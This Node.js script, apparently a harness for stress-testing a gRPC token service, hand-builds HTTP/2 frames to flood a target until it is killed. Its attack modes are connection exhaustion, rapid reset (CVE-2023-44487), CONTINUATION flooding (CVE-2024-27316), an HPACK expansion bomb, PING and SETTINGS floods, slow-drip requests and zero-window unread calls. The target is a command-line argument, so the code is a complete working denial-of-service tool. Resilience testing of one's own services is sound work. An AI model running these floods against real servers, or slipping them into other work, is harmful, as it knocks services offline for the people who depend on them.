'use strict';
// What a client does that means harm: node flood.js KIND HOST:PORT [CA CERT KEY]
// does it until it is killed, from another address of loopback than others have.
// Frames are written by hand, for no library would send them so.

const fs = require('node:fs');
const net = require('node:net');
const tls = require('node:tls');

const FROM = '127.0.0.2';
const METHOD = '/signet.v1.TokenService/BatchVerify';
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const [DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION] =
  [0, 1, 3, 4, 6, 9];
const [END_STREAM, END_HEADERS] = [1, 4];

// RFC 9113 section 4.1.
function frame(type, flags, stream, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

// A literal that is not indexed (RFC 7541 section 6.2.2), with short texts.
function literal(name, value) {
  return Buffer.concat([Buffer.from([0, name.length]), Buffer.from(name),
    Buffer.from([value.length]), Buffer.from(value)]);
}

const REQUEST_HEADERS = Buffer.concat([
  Buffer.from([0x83, 0x86]),  // POST, http
  literal(':path', METHOD), literal(':authority', 'signet'),
  literal('content-type', 'application/grpc'), literal('te', 'trailers')]);

function setting(id, value) {
  const bytes = Buffer.alloc(6);
  bytes.writeUInt16BE(id, 0);
  bytes.writeUInt32BE(value, 2);
  return bytes;
}

const [, , kind, address, ca, cert, key] = process.argv;
const [host, port] = address.split(':');

// Opens a connection, and another one in its place if it ends.
function connect(begin) {
  const options = { host, port: Number(port), localAddress: FROM };
  const socket = ca === undefined ? net.connect(options) : tls.connect({
    ...options, ca: fs.readFileSync(ca), ALPNProtocols: ['h2'],
    ...(cert && { cert: fs.readFileSync(cert), key: fs.readFileSync(key) }) });
  socket.on(ca === undefined ? 'connect' : 'secureConnect',
    () => begin(socket));
  socket.on('error', () => {});
  socket.on('close', () => setTimeout(connect, 1, begin));
  socket.resume();
}

// Writes what `next` returns, for as long as the other end takes it.
function pour(socket, next) {
  const more = () => {
    while (!socket.destroyed && socket.write(next()));
  };
  socket.on('drain', more);
  more();
}

function speak(socket, settings = Buffer.alloc(0)) {
  socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, settings)]));
}

// The numbers of a client's streams.
function streamNumbers() {
  let stream = -1;
  return () => (stream += 2);
}

function repeated(bytes, count = 100) {
  const all = Buffer.concat(Array(count).fill(bytes));
  return () => all;
}

// Bytes of a message that is never whole.
const SLOW_MESSAGE = frame(DATA, 0, 1, Buffer.from([0, 0, 0, 0xff, 0xff]));

const KINDS = {
  // Connections that say nothing, as many as can be had.
  connections: [2000, () => {}],
  // Handshakes, one after the other.
  handshakes: [32, (socket) => socket.destroy()],
  // Calls that are taken back at once (CVE-2023-44487).
  resets: [8, (socket) => {
    speak(socket);
    const next = streamNumbers();
    pour(socket, () => {
      const frames = [];
      for (let i = 0; i < 100; i += 1) {
        const stream = next();
        frames.push(frame(HEADERS, END_HEADERS, stream, REQUEST_HEADERS),
          frame(RST_STREAM, 0, stream, Buffer.from([0, 0, 0, 8])));
      }
      return Buffer.concat(frames);
    });
  }],
  // Headers without an end (CVE-2024-27316).
  headers: [8, (socket) => {
    speak(socket);
    socket.write(frame(HEADERS, 0, 1, REQUEST_HEADERS));
    const some = literal('x'.repeat(100), 'y'.repeat(100));
    pour(socket, repeated(
      frame(CONTINUATION, 0, 1, Buffer.concat(Array(70).fill(some)))));
  }],
  // Headers that unfold: one that is long, and references to it.
  unfolding: [8, (socket) => {
    speak(socket);
    const next = streamNumbers();
    const long = Buffer.concat([Buffer.from([0x40, 1]), Buffer.from('x'),
      Buffer.from([0x7f, 0x81, 0x1e]), Buffer.alloc(4000, 'y')]);
    const block = Buffer.concat(
      [REQUEST_HEADERS, long, Buffer.alloc(12000, 0xbe)]);
    pour(socket, () => frame(HEADERS, END_HEADERS | END_STREAM, next(), block));
  }],
  // Questions that want an answer each (CVE-2019-9512, CVE-2019-9515).
  pings: [8, (socket) => {
    speak(socket);
    socket.pause();
    pour(socket, repeated(frame(PING, 0, 0, Buffer.alloc(8))));
  }],
  settings: [8, (socket) => {
    speak(socket);
    socket.pause();
    pour(socket, repeated(frame(SETTINGS, 0, 0, setting(3, 100))));
  }],
  // Messages of which a byte comes now and then.
  slow: [500, (socket) => {
    speak(socket);
    socket.write(Buffer.concat(
      [frame(HEADERS, END_HEADERS, 1, REQUEST_HEADERS), SLOW_MESSAGE]));
    const timer = setInterval(
      () => socket.write(frame(DATA, 0, 1, Buffer.from('x'))), 500);
    socket.on('close', () => clearInterval(timer));
  }],
  // Calls whose answers are never taken: no window is ever given for them.
  unread: [50, (socket) => {
    speak(socket, setting(4, 0));
    const next = streamNumbers();
    // 100 requests without a token.
    const message = Buffer.alloc(205);
    message.writeUInt32BE(200, 1);
    for (let i = 5; i < 205; i += 2) message[i] = 0x0a;
    for (let i = 0; i < 1000; i += 1) {
      const stream = next();
      socket.write(Buffer.concat([
        frame(HEADERS, END_HEADERS, stream, REQUEST_HEADERS),
        frame(DATA, END_STREAM, stream, message)]));
    }
  }],
};

const [count, begin] = KINDS[kind];
for (let i = 0; i < count; i += 1) connect(begin);
